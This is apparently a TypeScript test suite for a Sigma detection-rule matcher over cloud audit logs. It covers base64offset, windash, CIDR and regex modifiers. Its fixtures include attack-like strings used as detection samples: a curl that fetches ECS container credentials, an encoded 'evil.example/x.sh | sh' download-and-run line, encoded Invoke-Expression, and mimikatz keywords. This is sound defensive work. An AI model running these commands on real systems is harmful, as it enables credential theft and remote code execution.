import { Buffer } from 'node:buffer';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { base64Offsets } from '../../../shared/sigma/values.ts';
import { compiled, fieldMatcher, reasonOf } from './support.ts';

const ua = (userAgent: unknown) => ({ eventName: 'X', userAgent });
const rq = (requestParameters: unknown) => ({ eventName: 'X', requestParameters });

describe('plain values', () => {
  it('matches exact values case-insensitively and value lists as OR', () => {
    const m = fieldMatcher('eventName', ['StopLogging', 'DeleteTrail']);
    expect(m({ eventName: 'StopLogging' })).toBe(true);
    expect(m({ eventName: 'deletetrail' })).toBe(true);
    expect(m({ eventName: 'StartLogging' })).toBe(false);
    expect(m({})).toBe(false);
  });

  it("matches a YAML 'true' against a JSON boolean and a number against its text", () => {
    const proxy = fieldMatcher('securityContext.isProxy', 'true', 'okta');
    expect(proxy({ securityContext: { isProxy: true } })).toBe(true);
    expect(proxy({ securityContext: { isProxy: false } })).toBe(false);
    const port = fieldMatcher('requestParameters.port', 22);
    expect(port(rq({ port: 22 }))).toBe(true);
    expect(port(rq({ port: '22' }))).toBe(true);
    expect(port(rq({ port: 220 }))).toBe(false);
  });

  it('null means absent or null; an empty string means empty', () => {
    const none = fieldMatcher('errorCode', null);
    expect(none({})).toBe(true);
    expect(none({ errorCode: null })).toBe(true);
    expect(none({ errorCode: 'AccessDenied' })).toBe(false);
    expect(none({ errorCode: '' })).toBe(false);
    const empty = fieldMatcher('errorCode', '');
    expect(empty({ errorCode: '' })).toBe(true);
    expect(empty({})).toBe(false);
  });

  it('a null inside a value list is one more alternative', () => {
    const m = fieldMatcher('errorCode', ['Success', null]);
    expect(m({ errorCode: 'Success' })).toBe(true);
    expect(m({})).toBe(true);
    expect(m({ errorCode: 'AccessDenied' })).toBe(false);
  });

  it('wildcards in plain values, with escapes', () => {
    const m = fieldMatcher('eventName', 'list*');
    expect(m({ eventName: 'ListBuckets' })).toBe(true);
    expect(m({ eventName: 'GetBucketPolicy' })).toBe(false);
    const star = fieldMatcher('userAgent', 'a\\*b');
    expect(star(ua('a*b'))).toBe(true);
    expect(star(ua('axb'))).toBe(false);
  });

  it('cased makes the comparison case-sensitive', () => {
    const m = fieldMatcher('eventName|cased', 'StopLogging');
    expect(m({ eventName: 'StopLogging' })).toBe(true);
    expect(m({ eventName: 'stoplogging' })).toBe(false);
  });

  it('an object or array field matches through its scalar leaves', () => {
    const m = fieldMatcher('requestParameters|contains', 'Suspended');
    expect(m(rq({ bucketName: 'b', VersioningConfiguration: { Status: 'Suspended' } }))).toBe(true);
    expect(m(rq({ bucketName: 'b', VersioningConfiguration: { Status: 'Enabled' } }))).toBe(false);
    const cmd = fieldMatcher(
      'requestParameters.containerDefinitions.command|contains',
      '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI',
    );
    expect(
      cmd(
        rq({
          containerDefinitions: [
            { command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'] },
          ],
        }),
      ),
    ).toBe(true);
    expect(cmd(rq({ containerDefinitions: [{ command: ['sh', '-c', 'echo hi'] }] }))).toBe(false);
  });
});

describe('contains / startswith / endswith / all', () => {
  it('contains', () => {
    const m = fieldMatcher('userAgent|contains', 'S3 Browser');
    expect(m(ua('S3 Browser 9.5.5 https://s3browser.com'))).toBe(true);
    expect(m(ua('aws-cli/2.15'))).toBe(false);
  });

  it('startswith and endswith', () => {
    const starts = fieldMatcher('eventName|startswith', 'UpdateFunctionConfiguration');
    expect(starts({ eventName: 'UpdateFunctionConfiguration20150331v2' })).toBe(true);
    expect(starts({ eventName: 'GetFunctionConfiguration' })).toBe(false);
    const ends = fieldMatcher('userAgent|endswith', '.exe');
    expect(ends(ua('C:\\tools\\evil.EXE'))).toBe(true);
    expect(ends(ua('evil.exe.txt'))).toBe(false);
  });

  it('contains with a * value means "has any string value"', () => {
    const m = fieldMatcher('errorMessage|contains', '*');
    expect(m({ errorMessage: 'Access denied' })).toBe(true);
    expect(m({ errorMessage: '' })).toBe(true);
    expect(m({})).toBe(false);
    expect(m({ errorMessage: null })).toBe(false);
  });

  it('all requires every value; without it any value suffices', () => {
    const all = fieldMatcher('requestParameters|contains|all', ['"s3:GetObject"', '"Allow"']);
    const policy = '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject"}]}';
    expect(all(rq({ policyDocument: policy }))).toBe(true);
    expect(all(rq({ policyDocument: policy.replace('Allow', 'Deny') }))).toBe(false);
    const any = fieldMatcher('requestParameters|contains', ['"s3:GetObject"', '"Allow"']);
    expect(any(rq({ policyDocument: policy.replace('Allow', 'Deny') }))).toBe(true);
  });

  it('reports two different anchors on one field', () => {
    expect(reasonOf({ sel: { 'eventName|contains|startswith': 'x' }, condition: 'sel' })).toBe(
      "unsupported: conflicting modifiers 'contains' and 'startswith' on field 'eventName'",
    );
  });
});

describe('neq', () => {
  it('negates the whole list; an absent field is different too', () => {
    const m = fieldMatcher('userIdentity.type|neq', ['AssumedRole', 'AWSService']);
    expect(m({ userIdentity: { type: 'IAMUser' } })).toBe(true);
    expect(m({ userIdentity: { type: 'AssumedRole' } })).toBe(false);
    expect(m({})).toBe(true);
  });
});

describe('re', () => {
  it('matches case-sensitively by default, unanchored', () => {
    const m = fieldMatcher('userIdentity.arn|re', '.+:assumed-role/aws:.+');
    expect(
      m({ userIdentity: { arn: 'arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0abc' } }),
    ).toBe(true);
    expect(m({ userIdentity: { arn: 'arn:aws:sts::123456789012:assumed-role/AWS:ec2' } })).toBe(false);
    expect(m({ userIdentity: { arn: 'arn:aws:iam::123456789012:user/alice' } })).toBe(false);
  });

  it('honours the i, m and s sub-modifiers', () => {
    expect(fieldMatcher('userAgent|re|i', '^trufflehog')(ua('TruffleHog/3'))).toBe(true);
    expect(fieldMatcher('userAgent|re', '^trufflehog')(ua('TruffleHog/3'))).toBe(false);
    expect(fieldMatcher('userAgent|re|m', '^second$')(ua('first\nsecond'))).toBe(true);
    expect(fieldMatcher('userAgent|re', '^second$')(ua('first\nsecond'))).toBe(false);
    expect(fieldMatcher('userAgent|re|s', 'a.b')(ua('a\nb'))).toBe(true);
    expect(fieldMatcher('userAgent|re', 'a.b')(ua('a\nb'))).toBe(false);
  });

  it('reports catastrophic, PCRE-only and misplaced-flag regexes', () => {
    expect(reasonOf({ sel: { 'userAgent|re': '(a+)+$' }, condition: 'sel' })).toContain(
      'nested quantifier or alternation under repetition',
    );
    expect(reasonOf({ sel: { 'userAgent|re': '(?i)abc' }, condition: 'sel' })).toContain(
      'does not compile in JavaScript',
    );
    expect(reasonOf({ sel: { 'userAgent|i|re': 'abc' }, condition: 'sel' })).toContain(
      "regex flag 'i' before 're'",
    );
    expect(reasonOf({ sel: { 'userAgent|re|contains': 'abc' }, condition: 'sel' })).toContain(
      "modifier 'contains' combined with 're'",
    );
  });
});

describe('cidr', () => {
  it('matches IPv4 and IPv6 ranges, and IPv4-mapped IPv6 addresses as IPv4', () => {
    const m = fieldMatcher('sourceIPAddress|cidr', ['10.0.0.0/8', '2001:db8::/32']);
    expect(m({ sourceIPAddress: '10.20.30.40' })).toBe(true);
    expect(m({ sourceIPAddress: '::ffff:10.1.2.3' })).toBe(true);
    expect(m({ sourceIPAddress: '2001:db8:1::7' })).toBe(true);
    expect(m({ sourceIPAddress: '11.0.0.1' })).toBe(false);
    expect(m({ sourceIPAddress: '2001:db9::1' })).toBe(false);
    expect(m({ sourceIPAddress: 'AWS Internal' })).toBe(false);
    expect(m({ sourceIPAddress: 'ec2.amazonaws.com' })).toBe(false);
  });

  it('does not read octal or shorthand IPv4 spellings as addresses', () => {
    const m = fieldMatcher('sourceIPAddress|cidr', '10.0.0.0/8');
    expect(m({ sourceIPAddress: '012.0.0.1' })).toBe(false);
    expect(m({ sourceIPAddress: '10.1' })).toBe(false);
  });

  it('reports an invalid range', () => {
    expect(reasonOf({ sel: { 'sourceIPAddress|cidr': '10.0.0.0/33' }, condition: 'sel' })).toBe(
      "unsupported: invalid CIDR '10.0.0.0/33' on field 'sourceIPAddress'",
    );
  });
});

describe('exists', () => {
  it('tests presence, not value', () => {
    const present = fieldMatcher('errorCode|exists', true);
    const absent = fieldMatcher('errorCode|exists', false);
    expect(present({ errorCode: 'AccessDenied' })).toBe(true);
    expect(present({ errorCode: null })).toBe(true);
    expect(present({})).toBe(false);
    expect(absent({})).toBe(true);
    expect(absent({ errorCode: 'x' })).toBe(false);
  });

  it('needs a boolean', () => {
    expect(reasonOf({ sel: { 'errorCode|exists': 'yes' }, condition: 'sel' })).toBe(
      "unsupported: 'exists' on field 'errorCode' needs a single true or false",
    );
  });
});

describe('fieldref', () => {
  it('compares two fields of the same record, case-insensitively', () => {
    const m = fieldMatcher('userIdentity.userName|fieldref', 'requestParameters.userName');
    expect(m({ userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
    expect(m({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } })).toBe(false);
    expect(m({ userIdentity: { userName: 'alice' } })).toBe(false);
  });

  it('combines with contains and neq', () => {
    const contains = fieldMatcher('userIdentity.arn|fieldref|contains', 'requestParameters.userName');
    expect(
      contains({
        userIdentity: { arn: 'arn:aws:iam::1:user/alice' },
        requestParameters: { userName: 'alice' },
      }),
    ).toBe(true);
    const neq = fieldMatcher('userIdentity.arn|fieldref|neq', 'requestParameters.userName');
    expect(neq({ userIdentity: { arn: 'x' }, requestParameters: { userName: 'x' } })).toBe(false);
    expect(neq({ userIdentity: { arn: 'x' }, requestParameters: { userName: 'y' } })).toBe(true);
  });
});

describe('gt / gte / lt / lte', () => {
  it('compares numbers and numeric strings', () => {
    const gt = fieldMatcher('requestParameters.maxCount|gt', 10);
    expect(gt(rq({ maxCount: 11 }))).toBe(true);
    expect(gt(rq({ maxCount: '11' }))).toBe(true);
    expect(gt(rq({ maxCount: 10 }))).toBe(false);
    expect(gt(rq({ maxCount: 'many' }))).toBe(false);
    expect(fieldMatcher('requestParameters.maxCount|gte', 10)(rq({ maxCount: 10 }))).toBe(true);
    expect(fieldMatcher('requestParameters.maxCount|lt', 10)(rq({ maxCount: 9.5 }))).toBe(true);
    expect(fieldMatcher('requestParameters.maxCount|lte', 10)(rq({ maxCount: 10.5 }))).toBe(false);
  });

  it('reports a non-numeric bound', () => {
    expect(reasonOf({ sel: { 'requestParameters.maxCount|gt': 'ten' }, condition: 'sel' })).toBe(
      "unsupported: non-numeric value 'ten' for 'gt' on field 'requestParameters.maxCount'",
    );
  });
});

describe('encodings', () => {
  it('base64 matches the encoded value, case-sensitively', () => {
    const m = fieldMatcher('requestParameters.userData|base64|contains', 'curl http://evil');
    const encoded = Buffer.from('curl http://evil').toString('base64');
    expect(m(rq({ userData: `xx${encoded}` }))).toBe(true);
    expect(m(rq({ userData: encoded.toLowerCase() }))).toBe(false);
  });

  it('base64offset finds the value at any byte offset inside an encoded blob', () => {
    const m = fieldMatcher('requestParameters.userData|base64offset|contains', 'http://evil');
    for (const prefix of ['', 'a', 'ab', '#!/bin/sh\ncurl ']) {
      const blob = Buffer.from(`${prefix}http://evil.example/x.sh | sh`).toString('base64');
      expect(m(rq({ userData: blob }))).toBe(true);
    }
    expect(m(rq({ userData: Buffer.from('#!/bin/sh\necho hello').toString('base64') }))).toBe(false);
  });

  it('base64offset produces the forms independent of surrounding bytes', () => {
    // base64("http://") = aHR0cDovLw==, of " http://" = IGh0dHA6Ly8=, of "  http://" = ICBodHRwOi8v:
    // dropping the characters that mix in neighbouring bytes leaves these three.
    expect(base64Offsets(Buffer.from('http://'))).toEqual(['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v']);
  });

  // From three bytes up every offset leaves at least one character that only the value decides.
  it('some base64offset form occurs in the encoding of any text that contains the value (property)', () => {
    fc.assert(
      fc.property(
        fc.uint8Array({ maxLength: 8 }),
        fc.uint8Array({ minLength: 3, maxLength: 12 }),
        fc.uint8Array({ maxLength: 8 }),
        (before, value, after) => {
          const forms = base64Offsets(Buffer.from(value));
          const blob = Buffer.concat([Buffer.from(before), Buffer.from(value), Buffer.from(after)]).toString(
            'base64',
          );
          expect(forms.some((f) => blob.includes(f))).toBe(true);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('utf16le before base64offset encodes the UTF-16 bytes (PowerShell -EncodedCommand)', () => {
    const m = fieldMatcher('requestParameters.command|utf16le|base64offset|contains', 'Invoke-Expression');
    const encoded = Buffer.from('$x = 1; Invoke-Expression $y', 'utf16le').toString('base64');
    expect(m(rq({ command: encoded }))).toBe(true);
    expect(m(rq({ command: Buffer.from('Invoke-Expression', 'utf8').toString('base64') }))).toBe(false);
  });

  it('windash matches every dash spelling of a flag', () => {
    const m = fieldMatcher('requestParameters.command|windash|contains', ' -enc ');
    for (const flag of [' -enc ', ' /enc ', ' \u2013enc ', ' \u2014enc ', ' \u2015enc ']) {
      expect(m(rq({ command: `powershell${flag}AAAA` }))).toBe(true);
    }
    expect(m(rq({ command: 'powershell enc AAAA' }))).toBe(false);
  });

  it('reports encodings it cannot apply', () => {
    expect(reasonOf({ sel: { 'userAgent|utf16le|contains': 'x' }, condition: 'sel' })).toBe(
      "unsupported: 'utf16le' on field 'userAgent' without a following base64/base64offset",
    );
    expect(reasonOf({ sel: { 'userAgent|contains|base64': 'x' }, condition: 'sel' })).toBe(
      "unsupported: 'base64' after 'contains' on field 'userAgent' (encoding a wildcard pattern)",
    );
    expect(reasonOf({ sel: { 'userAgent|base64': 'x*' }, condition: 'sel' })).toBe(
      "unsupported: 'base64' of a value with wildcards on field 'userAgent'",
    );
  });
});

describe('expand (placeholders)', () => {
  const detection = {
    sel: { eventName: 'ConsoleLogin' },
    filter: { 'sourceIPAddress|expand': '%office_ips%' },
    condition: 'sel and not filter',
  };

  it('is unsupported without configured values, naming the placeholder', () => {
    expect(reasonOf(detection)).toBe(
      "unsupported: placeholder '%office_ips%' (|expand) on field 'sourceIPAddress' has no configured values",
    );
  });

  it('expands configured values into alternatives', () => {
    const rule = compiled(detection, {}, { placeholders: { office_ips: ['198.51.100.*', '203.0.113.7'] } });
    expect(rule.matches({ eventName: 'ConsoleLogin', sourceIPAddress: '192.0.2.1' })).toBe(true);
    expect(rule.matches({ eventName: 'ConsoleLogin', sourceIPAddress: '198.51.100.44' })).toBe(false);
    expect(rule.matches({ eventName: 'ConsoleLogin', sourceIPAddress: '203.0.113.7' })).toBe(false);
  });
});

describe('keywords', () => {
  it('a keyword list searches every value of the record, as contains', () => {
    const rule = compiled({ keywords: ['mimikatz', 'sekurlsa'], condition: 'keywords' });
    expect(rule.matches({ eventName: 'X', requestParameters: { cmd: ['run', 'Invoke-Mimikatz'] } })).toBe(
      true,
    );
    expect(rule.matches({ eventName: 'X', requestParameters: { cmd: 'ls' } })).toBe(false);
  });

  it("'|all' requires every keyword somewhere in the record", () => {
    const rule = compiled({
      keywords: { '|all': ['OabVirtualDirectory', ' -ExternalUrl '] },
      condition: 'keywords',
    });
    expect(rule.matches({ a: 'Set-OabVirtualDirectory', b: { c: 'x -ExternalUrl y' } })).toBe(true);
    expect(rule.matches({ a: 'Set-OabVirtualDirectory' })).toBe(false);
  });

  it('a list mixing keywords and maps is reported', () => {
    expect(reasonOf({ sel: ['word', { eventName: 'X' }], condition: 'sel' })).toBe(
      "unsupported: selection 'sel' mixes keywords and field maps",
    );
  });
});

describe('unsupported modifiers are named', () => {
  it.each([
    ['eventTime|hour', 3, "time modifier 'hour' on field 'eventTime'"],
    ['eventName|sounds_like', 'x', "unknown modifier 'sounds_like' on field 'eventName'"],
    [
      'sourceIPAddress|re|cidr',
      '10.0.0.0/8',
      "conflicting modifiers 're', 'cidr' on field 'sourceIPAddress'",
    ],
  ])('%s', (key, value, detail) => {
    expect(reasonOf({ sel: { [key]: value }, condition: 'sel' })).toBe(`unsupported: ${detail}`);
  });
});

describe('selections', () => {
  it('a list of maps is an OR of ANDs', () => {
    const rule = compiled({
      filter: [
        { eventSource: 'ssm.amazonaws.com' },
        { eventName: 'RegisterManagedInstance', awsRegion: 'us-east-1' },
      ],
      condition: 'filter',
    });
    expect(rule.matches({ eventSource: 'ssm.amazonaws.com', eventName: 'X' })).toBe(true);
    expect(
      rule.matches({
        eventSource: 'ec2.amazonaws.com',
        eventName: 'RegisterManagedInstance',
        awsRegion: 'us-east-1',
      }),
    ).toBe(true);
    expect(
      rule.matches({
        eventSource: 'ec2.amazonaws.com',
        eventName: 'RegisterManagedInstance',
        awsRegion: 'eu-west-1',
      }),
    ).toBe(false);
  });

  it('reports nested maps as values and empty selections', () => {
    expect(reasonOf({ sel: { requestParameters: { a: 1 } }, condition: 'sel' })).toBe(
      "unsupported: nested map or list as a value of field 'requestParameters'",
    );
    expect(reasonOf({ sel: {}, condition: 'sel' })).toBe("unsupported: selection 'sel' has an empty map");
    expect(reasonOf({ sel: null, condition: 'sel' })).toBe(
      "unsupported: selection 'sel' is empty or not a map, list or value",
    );
  });
});
